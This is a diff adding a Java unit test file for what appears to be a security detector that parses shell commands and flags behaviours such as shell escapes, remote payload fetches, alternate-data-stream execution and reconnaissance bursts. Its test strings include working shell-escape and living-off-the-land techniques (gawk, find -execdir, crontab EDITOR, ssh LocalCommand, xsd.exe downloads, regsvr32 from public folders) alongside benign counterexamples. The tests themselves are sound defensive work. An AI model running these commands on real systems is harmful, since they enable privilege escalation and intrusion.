@@ -1,0 +1,92 @@
+package dev.vigil.analyze.reading;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.vigil.analyze.reading.Behaviours.Family;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+class BehavioursTest {
+
+    @Test
+    void readerSplitsCommandsAndKeepsRedirectionsAndAssignmentsApart() {
+        List<CommandReader.Simple> cmds = CommandReader.read("PAGER='less -R' git log > /tmp/o 2>&1; echo \"a b\" | wc -l", false);
+        assertThat(cmds).hasSize(3);
+        assertThat(cmds.get(0).assignments()).containsExactly("PAGER=less -R");
+        assertThat(cmds.get(0).words()).containsExactly("git", "log");
+        assertThat(cmds.get(0).redirects()).containsExactly("/tmp/o", "1");
+        assertThat(cmds.get(1).words()).containsExactly("echo", "a b");
+        assertThat(cmds.get(2).fedInput()).isTrue();
+        assertThat(cmds.get(2).program()).isEqualTo("wc");
+    }
+
+    @Test
+    void readerOpensTheCommandStringsOfShellsAndCmd() {
+        List<CommandReader.Simple> cmds = CommandReader.read("cmd.exe /c \"C:\\Tools\\x.exe -a & whoami\"", true);
+        assertThat(cmds).extracting(CommandReader.Simple::program).containsExactly("cmd", "x", "whoami");
+        assertThat(CommandReader.read("sh -c 'id; uname -a'", false)).extracting(CommandReader.Simple::program)
+                .containsExactly("sh", "id", "uname");
+    }
+
+    @Test
+    void readerNeverThrowsOnBrokenQuotingAndDeepNesting() {
+        StringBuilder deep = new StringBuilder();
+        for (int i = 0; i < 500; i++) {
+            deep.append("sh -c '");
+        }
+        for (String s : new String[] {"\"", "'", "\\", "a 'b", "x \"y\\", "$(", "`", "> ", "<<<", deep.toString(), "^", "cmd /c"}) {
+            CommandReader.read(s, false);
+            CommandReader.read(s, true);
+            assertThat(Behaviours.shows(Family.SHELL_ESCAPE, s, false)).isFalse();
+        }
+    }
+
+    @Test
+    void aShellHandedToAnotherProgramIsAnEscape() {
+        for (String s : new String[] {
+            "ionice -c3 /bin/bash", "setsid /usr/bin/zsh -l", "sudo ksh", "ed -p'' x <<< '!/bin/sh'",
+            "perl -e 'system(\"/bin/dash\")'", "gawk 'BEGIN {system(\"/bin/bash -i\")}'", "EDITOR='/bin/sh -c sh' crontab -e",
+            "busybox ash -p", "find / -maxdepth 0 -execdir /bin/sh \\;", "lua -e 'os.execute(\"sh\")'",
+            "nmap --script-args='cmd=/bin/sh'", "hg --config alias.q='!/bin/bash' q", "ln -sf /bin/bash /usr/bin/less",
+            "ssh -o LocalCommand=/bin/sh -o PermitLocalCommand=yes host", "tcsh -b"}) {
+            assertThat(Behaviours.shows(Family.SHELL_ESCAPE, s, false)).as(s).isTrue();
+        }
+    }
+
+    @Test
+    void shellsRunForAScriptOrInsideAContainerAreNotEscapes() {
+        for (String s : new String[] {
+            "ls -la /bin/sh", "usermod -s /bin/zsh dev", "su - build -s /bin/bash", "nohup /bin/sh run.sh &",
+            "docker run -it debian /bin/bash", "find . -newer /bin/sh", "echo make | sudo bash",
+            "grep -E ':/bin/bash$' /etc/passwd", "bash -c 'echo hi'", "xargs -n1 /bin/echo",
+            "su -c 'initdb -D /srv/pg' -s /bin/sh postgres", "ln -s /bin/bash /usr/local/bin/bash",
+            "git commit -m 'use /bin/sh -e in scripts'"}) {
+            assertThat(Behaviours.shows(Family.SHELL_ESCAPE, s, false)).as(s).isFalse();
+        }
+    }
+
+    @Test
+    void windowsPayloadsAreJudgedByWhereTheyComeFrom() {
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "xsd.exe https://files.example.net/a.exe", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "curl.exe -O https://files.example.net/a.exe", true)).isFalse();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "cmd /c copy \\\\srv\\share\\tool.dll C:\\x", true)).isTrue();
+        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "mount \\\\srv\\share Z:", true)).isFalse();
+        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "wscript.exe C:\\data\\log.txt:x.vbs", true)).isTrue();
+        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "ping db.example.com:443", true)).isFalse();
+        assertThat(Behaviours.shows(Family.ALTERNATE_STREAM, "git clone git@host.example.com:org/repo.git", true)).isFalse();
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "regsvr32 /s C:\\Users\\Public\\a.ocx", true)).isTrue();
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "notepad C:\\Users\\Public\\a.txt", true)).isFalse();
+    }
+
+    @Test
+    void discoveryIsABurstOfDistinctSurveysNotOneLookup() {
+        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "id; uname -a", false)).isTrue();
+        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "cmd /c \"whoami & ipconfig /all\"", true)).isTrue();
+        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "powershell -c \"Get-Process; Get-Service\"", true)).isTrue();
+        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "sudo dmidecode -t 1 && systemd-detect-virt", false)).isTrue();
+        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "whoami /all", true)).isFalse();
+        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "ps -u $(whoami) -o pid", false)).isFalse();
+        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "last -i | grep `whoami`", false)).isFalse();
+        assertThat(Behaviours.shows(Family.DISCOVERY_BURST, "whoami; whoami", false)).isFalse();
+    }
+}
